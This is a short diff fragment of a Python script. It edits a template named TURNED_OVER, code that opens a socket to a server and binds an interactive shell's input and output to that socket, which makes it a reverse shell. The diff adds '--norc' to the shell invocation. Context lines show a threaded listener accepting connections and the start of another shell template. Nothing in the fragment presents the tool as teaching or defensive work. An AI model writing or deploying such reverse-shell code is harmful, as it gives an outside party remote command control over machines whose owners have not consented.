@@ -18,7 +18,7 @@ while True: threading.Thread(target=type, args=(server.accept()[0],)).start()
 TURNED_OVER = f"""
 import os, socket, subprocess, sys
 far = socket.create_connection(("{SERVER}", {FAR}))
-subprocess.call([sys.argv[1], "-i"], stdin=far, stdout=far, stderr=far)
+subprocess.call([sys.argv[1], "--norc", "-i"], stdin=far, stdout=far, stderr=far)
 """
 NEAR_SHELL = """
 import socket, subprocess, sys
